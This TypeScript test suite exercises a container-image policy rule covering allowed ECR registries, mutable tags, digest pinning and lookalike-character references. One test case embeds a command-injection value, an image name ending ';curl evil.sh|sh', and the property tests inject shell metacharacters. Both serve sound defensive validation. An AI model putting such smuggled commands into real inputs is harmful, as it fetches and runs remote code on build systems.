import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseImageReference } from '../../../../functions/core/image/reference';
import { loadPolicyText } from '../../../../functions/core/policy/load';
import { container, evaluate, evaluateReport, facts, policy, report } from '../support';
import { assertProperty } from '../../../support/property';

const ECR = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/app';
const DIGEST = `sha256:${'c'.repeat(64)}`;

describe('rules.images', () => {
  const loaded = policy({
    rules: { images: { action: 'deny', allowedRegistries: ['*.dkr.ecr.*.amazonaws.com'], denyTags: ['latest', '*-SNAPSHOT'] } },
  });
  const judge = (image: string, p = loaded) => evaluate(p, [container(p, report(), { image })]).violations;

  it('allows images from an allowed registry and names the registry otherwise', () => {
    expect(judge(`${ECR}:1.2.3`)).toEqual([]);
    expect(judge('123456789012.DKR.ECR.eu-west-1.amazonaws.com/team/app:1.2.3')).toEqual([]);
    const [hub] = judge('nginx:1.27');
    expect(hub).toMatchObject({ id: 'images.registry', kind: 'image', severity: 'high', action: 'deny', details: { registry: 'docker.io', image: 'nginx:1.27' } });
    expect(hub.message).toBe(
      'container web pulls "nginx:1.27" from registry "docker.io", which is not in allowedRegistries (*.dkr.ecr.*.amazonaws.com); copy the image into an allowed registry (e.g. an ECR repository or pull-through cache) and reference it there',
    );
    expect(judge('public.ecr.aws/nginx/nginx:1.27').map((v) => v.id)).toEqual(['images.registry']);
  });

  it('denies listed tags, and an untagged reference as "latest"', () => {
    const [explicit] = judge(`${ECR}:latest`);
    expect(explicit).toMatchObject({ id: 'images.tag', severity: 'medium', details: { tag: 'latest' } });
    expect(explicit.message).toContain('uses the tag "latest", which the policy denies as mutable');
    const [implicit] = judge(ECR);
    expect(implicit).toMatchObject({ id: 'images.tag', details: { tag: 'latest' } });
    expect(implicit.message).toContain('has no tag, which means "latest"');
    expect(judge(`${ECR}:1.0-SNAPSHOT`).map((v) => v.id)).toEqual(['images.tag']);
    expect(judge(`${ECR}:1.0`)).toEqual([]);
  });

  it('does not judge the tag of a reference pinned by digest', () => {
    expect(judge(`${ECR}:latest@${DIGEST}`)).toEqual([]);
    expect(judge(`${ECR}@${DIGEST}`)).toEqual([]);
  });

  it('requires a digest when asked', () => {
    const pinned = policy({ rules: { images: { action: 'warn', requireDigest: true } } });
    const [violation] = judge(`${ECR}:1.0`, pinned);
    expect(violation).toMatchObject({ id: 'images.digest', action: 'warn' });
    expect(violation.message).toBe(`container web's image "${ECR}:1.0" is not pinned by digest; reference it as ${ECR}:1.0@sha256:<digest>`);
    expect(judge(`${ECR}:1.0@${DIGEST}`, pinned)).toEqual([]);
  });

  it('names an image judged without a container as "the image", never "the image\'s image"', () => {
    const pinned = policy({ rules: { images: { action: 'warn', requireDigest: true, denyTags: ['latest'] } } });
    const evidence = { ...container(pinned, report(), { image: `${ECR}:latest` }), name: undefined };
    const messages = evaluate(pinned, [evidence]).violations.map((v) => v.message);
    expect(messages.sort()).toEqual([
      `the image "${ECR}:latest" uses the tag "latest", which the policy denies as mutable; use a version tag or pin the digest (123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/app@sha256:...)`,
      `the image "${ECR}:latest" is not pinned by digest; reference it as ${ECR}:latest@sha256:<digest>`,
    ].sort());
  });

  it('reports an image reference that does not parse', () => {
    const evidence = { ...container(loaded, report(), { image: 'Team/App:1.0' }), image: undefined };
    const [violation] = evaluate(loaded, [evidence]).violations;
    expect(violation).toMatchObject({ id: 'images.reference', severity: 'high', details: { image: 'Team/App:1.0' } });
    expect(violation.message).toMatch(/^container web uses "Team\/App:1\.0", which is not a valid image reference \(.+\); fix the image in the container definition$/);
  });

  it('prefers the parsed reference of the evidence, then the container definition', () => {
    const evidence = { ...container(loaded, report(), { image: 'nginx' }), image: parseImageReference(`${ECR}:2.0`) };
    expect(evaluate(loaded, [evidence]).violations).toEqual([]);
  });

  it('falls back to the report reference for a bare report', () => {
    expect(evaluateReport(loaded, report({ image: facts({ reference: 'nginx:latest' }) })).violations.map((v) => v.id)).toEqual(['images.registry', 'images.tag']);
    expect(evaluateReport(loaded, report({ image: facts({ reference: `${ECR}:1.0` }) })).violations).toEqual([]);
  });

  // Issue 7: a bare report whose image name did not parse passed the rule with no word, while a task definition with the same
  // reference was denied. An image the rule cannot read can be checked against no restriction: it fails the rule.
  it.each([
    ['a Cyrillic letter that looks Latin', `${ECR.replace('app', '\u0430pp')}:1.0`, 'the repository path component "\u0430pp" must be lowercase letters and digits'],
    ['shell metacharacters', `${ECR}:1.0;curl evil.sh|sh`, ''],
    ['a file path', '/tmp/images/alpine-3.10.tar.gz', ''],
  ])('denies a bare report whose image name has %s, naming why', (_label, reference, why) => {
    const [violation, ...rest] = evaluateReport(loaded, report({ image: facts({ reference, repoDigests: [`${ECR}@${DIGEST}`] }) })).violations;
    expect(rest).toEqual([]);
    expect(violation).toMatchObject({ rule: 'images', id: 'images.reference', action: 'deny', severity: 'high', details: { image: reference } });
    expect(violation.message).toContain(`the report names the image ${JSON.stringify(reference)}, which is not a valid image reference (`);
    expect(violation.message).toContain(why);
    expect(violation.message).toContain('so its registry, tag and digest cannot be checked');
  });

  it('a bare report without an image name is judged by its repository digest, and denied without one', () => {
    expect(evaluateReport(loaded, report({ image: facts({ reference: undefined, repoDigests: [`${ECR}@${DIGEST}`] }) })).violations).toEqual([]);
    expect(evaluateReport(loaded, report({ image: facts({ reference: undefined, repoDigests: [`docker.io/library/nginx@${DIGEST}`] }) })).violations.map((v) => v.id)).toEqual([
      'images.registry',
    ]);
    const [none] = evaluateReport(loaded, report({ image: facts({ reference: undefined, repoDigests: [] }) })).violations;
    expect(none).toMatchObject({ id: 'images.reference', action: 'deny' });
    expect(none.message).toBe(
      'the report names no image reference (neither an image name nor a repository digest), so its registry, tag and digest cannot be checked; scan the image by its registry reference',
    );
  });

  it('the same unreadable reference is denied whether a task definition or a bare report names it', () => {
    const reference = `${ECR.replace('team', 'te\u0430m')}:1.0`;
    const fromTask = judge(reference).map((v) => [v.id, v.action]);
    const fromReport = evaluateReport(loaded, report({ image: facts({ reference }) })).violations.map((v) => [v.id, v.action]);
    expect(fromTask).toEqual([['images.reference', 'deny']]);
    expect(fromReport).toEqual(fromTask);
  });

  it('does nothing when disabled', () => {
    const off = policy({ rules: { images: { action: 'deny', enabled: false, denyTags: ['*'] } } });
    expect(judge('nginx', off)).toEqual([]);
  });
});

describe('rules.images under policies/strict.json: an image name that is not a valid, allowed reference never passes (property)', () => {
  const strict = loadPolicyText(readFileSync(join(__dirname, '../../../../policies/strict.json'), 'utf8'), 'policies/strict.json');
  const DENIED_TAGS = ['latest', 'main', 'master', 'develop', 'dev', 'edge', 'nightly'];
  const imageViolations = (reference: string, viaTaskDefinition: boolean) => {
    const scan = report({ image: facts({ reference, repoDigests: [`${ECR}@${DIGEST}`] }) });
    const result = viaTaskDefinition ? evaluate(strict, [container(strict, scan, { image: reference })]) : evaluateReport(strict, scan);
    return result.violations.filter((v) => v.rule === 'images');
  };
  /** What passing strict.json's images rule takes, checked without the engine: printable ASCII, an ECR host, a tag that is not mutable. */
  const passable = (reference: string): boolean => {
    if (!/^[\x21-\x7e]+$/.test(reference) || /[;|&$`<>(){}'"\\*?!\s]/.test(reference)) return false;
    const host = reference.split('/')[0].toLowerCase();
    if (!/^[a-z0-9-]+\.dkr\.ecr(?:-fips)?\.[a-z0-9-]+\.amazonaws\.com(?:\.cn)?$/.test(host) && !/\.dkr\.ecr(?:-fips)?\..*\.amazonaws\.com(?:\.cn)?$/.test(host)) return false;
    const tag = /:([^:/@]+)(?:@|$)/.exec(reference.slice(host.length))?.[1];
    if (!reference.includes('@') && (tag === undefined || DENIED_TAGS.includes(tag) || tag.endsWith('-SNAPSHOT'))) return false;
    // The reference grammar's limits (distribution/reference): a name of at most 255 characters, a tag of at most 128.
    const name = reference.split('@')[0].slice(0, tag === undefined ? undefined : -(tag.length + 1));
    if (name.length > 255 || (tag !== undefined && tag.length > 128)) return false;
    expect(() => parseImageReference(reference)).not.toThrow();
    return true;
  };
  const lookalikes = fc.constantFrom('\u0430', '\u0435', '\u043e', '\u0440', '\u0455', '\u0131', '\uff0e', '\u2024', ';', '|', '&', '$', '`', ' ', '\n', '"', '\u0000', '\u200b');
  const ecrReference = fc
    .tuple(fc.constantFrom('123456789012.dkr.ecr.eu-west-1.amazonaws.com', '210987654321.dkr.ecr.us-east-1.amazonaws.com'), fc.constantFrom('team/app', 'payments/api', 'a'), fc.constantFrom(':1.2.3', ':v2', `@${DIGEST}`, ''))
    .map(([host, repo, suffix]) => `${host}/${repo}${suffix}`);
  const mutated = fc
    .tuple(ecrReference, fc.nat(), lookalikes, fc.boolean())
    .map(([ref, at, char, replace]) => {
      const i = at % (ref.length + 1);
      return ref.slice(0, i) + char + ref.slice(replace ? i + 1 : i);
    });
  const anyText = fc.oneof(fc.string({ unit: 'binary', maxLength: 120 }), fc.string({ unit: 'grapheme-ascii', maxLength: 120 }));
  // Names and tags around the grammar's length limits, otherwise valid and allowed.
  const long = fc
    .tuple(fc.integer({ min: 150, max: 300 }), fc.integer({ min: 1, max: 140 }))
    .map(([nameLength, tagLength]) => {
      const host = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/';
      return `${host}${'a'.repeat(Math.max(1, nameLength - host.length))}:${'v'.repeat(tagLength)}`;
    });

  it.each([
    ['a bare report', false],
    ['a task definition', true],
  ])('names from %s: no images violation exactly for a valid ECR reference with an immutable tag or a digest', (_label, viaTaskDefinition) => {
    assertProperty(
      // An empty name is no name: the report's repository digest (an allowed ECR image) names the image then.
      // Both ways, so the property fails if a bad name passes and if the rule denies everything: the oracle decides alone.
      fc.property(fc.oneof(mutated, anyText, ecrReference, long).filter((reference) => reference !== ''), (reference) => {
        expect([reference, imageViolations(reference, viaTaskDefinition).length === 0]).toEqual([reference, passable(reference)]);
      }),
      { numRuns: 400 },
    );
  });

  it('every lookalike or metacharacter put into an allowed reference makes it fail the rule', () => {
    assertProperty(
      fc.property(mutated, (reference) => {
        fc.pre(!/^[\x21-\x7e]+$/.test(reference) || /[;|&$`"]/.test(reference));
        expect(imageViolations(reference, false).map((v) => v.action)).toContain('deny');
      }),
      { numRuns: 300 },
    );
  });
});
